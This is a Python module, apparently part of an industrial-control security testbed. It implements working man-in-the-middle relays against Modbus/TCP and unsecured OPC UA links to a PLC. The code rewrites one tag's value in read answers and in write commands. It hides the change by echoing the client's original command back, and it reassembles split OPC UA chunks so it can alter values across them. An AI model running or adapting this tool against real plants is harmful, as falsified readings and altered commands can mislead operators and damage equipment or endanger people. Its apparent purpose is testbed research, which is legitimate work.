"""A man in the middle: one tag's value is changed on its way between a PLC and whoever reads or commands it.

Neither Modbus/TCP nor an OPC UA channel without security can show it. Everything else goes through as it is, to the
byte, also what is no message of the protocol.
"""

from collections.abc import Callable

from testbed.attacks.opcua_bytes import BODY, HEAD, chunk_length, chunk_of, places_of, values_in
from testbed.attacks.relay import Relay, Splitter
from testbed.core.tags import ModbusTable, Tag
from testbed.fieldbus.layout import width
from testbed.fieldbus.modbus_frames import HEADER, LEAST_LENGTH, MOST_LENGTH

Change = Callable[[bytes], bytes]
"""From the raw bytes of a value, as they are on the wire, to as many others. A BOOL is 00 or 01."""

_BEFORE_UNIT = HEADER.size - 1
_READS = {
    1: ModbusTable.COIL,
    2: ModbusTable.DISCRETE_INPUT,
    3: ModbusTable.HOLDING_REGISTER,
    4: ModbusTable.INPUT_REGISTER,
}
_WRITES = {
    5: ModbusTable.COIL,
    6: ModbusTable.HOLDING_REGISTER,
    15: ModbusTable.COIL,
    16: ModbusTable.HOLDING_REGISTER,
}
_COILS = {b"\x00": b"\x00\x00", b"\x01": b"\xff\x00"}
_COIL = {wire: raw for raw, wire in _COILS.items()}


def untouched(raw: bytes) -> bytes:
    """No change."""
    return raw


class ModbusInTheMiddle(Relay):
    """Between a Modbus/TCP client and the PLC at host and port.

    answers: changes what functions 1 to 4 answer of the tag; commands: what functions 5, 6, 15 and 16 write to it. The
    client sees its own command in the answer to it.
    """

    def __init__(
        self, host: str, port: int, tag: Tag, *, answers: Change = untouched, commands: Change = untouched
    ) -> None:
        super().__init__(host, port, lambda: _ModbusWay(tag, answers, commands))


class OpcUaInTheMiddle(Relay):
    """Between an OPC UA client without security and the PLC at host and port. answers: changes what a Read tells."""

    def __init__(self, host: str, port: int, tag: Tag, answers: Change) -> None:
        super().__init__(host, port, lambda: _OpcUaWay(tag.opcua, answers))


class _ModbusWay:
    def __init__(self, tag: Tag, answers: Change, commands: Change) -> None:
        self._tag = tag
        self._answers = answers
        self._commands = commands
        self._there = Splitter(HEADER.size, _frame_length)
        self._back = Splitter(HEADER.size, _frame_length)
        self._asked: dict[int, bytes] = {}

    def there(self, data: bytes) -> bytes:
        return b"".join(map(self._request, self._there.feed(data)))

    def back(self, data: bytes) -> bytes:
        return b"".join(map(self._answer, self._back.feed(data)))

    def _request(self, frame: bytes) -> bytes:
        head, pdu = frame[: HEADER.size], frame[HEADER.size :]
        if len(pdu) < 5 or _frame_length(head) != len(frame):
            return frame
        self._asked[int.from_bytes(head[:2], "big")] = pdu
        function, address = pdu[0], int.from_bytes(pdu[1:3], "big")
        if _WRITES.get(function) is not self._tag.modbus.table:
            return frame
        place = self._tag.modbus.address - address
        if function == 5:
            coil = _COIL.get(pdu[3:])
            return frame if place or coil is None else head + pdu[:3] + _COILS[self._commands(coil)]
        at, count = (3, 1) if function == 6 else (6, int.from_bytes(pdu[3:5], "big"))
        return head + pdu[:at] + self._changed(pdu[at:], place, count, self._commands)

    def _answer(self, frame: bytes) -> bytes:
        head, pdu = frame[: HEADER.size], frame[HEADER.size :]
        asked = self._asked.pop(int.from_bytes(head[:2], "big"), b"")
        if not asked or not pdu or pdu[0] != asked[0]:
            return frame
        if pdu[0] in (5, 6):
            return head + asked
        if _READS.get(pdu[0]) is not self._tag.modbus.table:
            return frame
        address, count = int.from_bytes(asked[1:3], "big"), int.from_bytes(asked[3:5], "big")
        return head + pdu[:2] + self._changed(pdu[2:], self._tag.modbus.address - address, count, self._answers)

    def _changed(self, data: bytes, place: int, count: int, change: Change) -> bytes:
        """`data`: `count` bits or registers of the tag's table, among which it stands at `place`, whole or not."""
        end = place + width(self._tag)
        if self._tag.modbus.table.is_bit:
            if not 0 <= place < count <= 8 * len(data):
                return data
            bits = int.from_bytes(data, "little")
            bit = change(bytes((bits >> place & 1,)))[0]
            return (bits & ~(1 << place) | bit << place).to_bytes(len(data), "little")
        if not 0 <= place < end <= count <= len(data) // 2:
            return data
        return data[: 2 * place] + change(data[2 * place : 2 * end]) + data[2 * end :]


class _OpcUaWay:
    def __init__(self, identifier: str, answers: Change) -> None:
        self._identifier = identifier
        self._answers = answers
        self._there = Splitter(HEAD, chunk_length)
        self._back = Splitter(HEAD, chunk_length)
        self._requests: dict[int, bytes] = {}
        self._places: dict[int, list[int]] = {}
        self._waiting: dict[int, list[bytes]] = {}

    def there(self, data: bytes) -> bytes:
        for one in (chunks := self._there.feed(data)):
            chunk = chunk_of(one)
            if chunk is None:
                continue
            body = self._requests.pop(chunk.request, b"") + chunk.body
            if not chunk.final:
                self._requests[chunk.request] = body
            elif places := places_of(body, self._identifier):
                self._places[chunk.request] = places
        return b"".join(chunks)

    def back(self, data: bytes) -> bytes:
        return b"".join(map(self._answer, self._back.feed(data)))

    def _answer(self, data: bytes) -> bytes:
        chunk = chunk_of(data)
        if chunk is None or chunk.request not in self._places:
            return data
        # A value may lie across two chunks, so all of them are there before the first one goes on.
        chunks = self._waiting.pop(chunk.request, [])
        chunks.append(data)
        if not chunk.final:
            self._waiting[chunk.request] = chunks
            return b""
        places = self._places.pop(chunk.request)
        body = bytearray(b"".join(one[BODY:] for one in chunks))
        values = values_in(bytes(body))
        for place in places:
            where = values[place] if place < len(values) else None
            if where is not None:
                body[where] = self._answers(bytes(body[where]))
        changed, at = b"", 0
        for one in chunks:
            size = len(one) - BODY
            changed += one[:BODY] + body[at : at + size]
            at += size
        return changed


def _frame_length(head: bytes) -> int | None:
    """Length of the Modbus/TCP frame that begins so, None where none does."""
    _, protocol, length, _ = HEADER.unpack(head)
    return _BEFORE_UNIT + length if protocol == 0 and LEAST_LENGTH <= length <= MOST_LENGTH else None
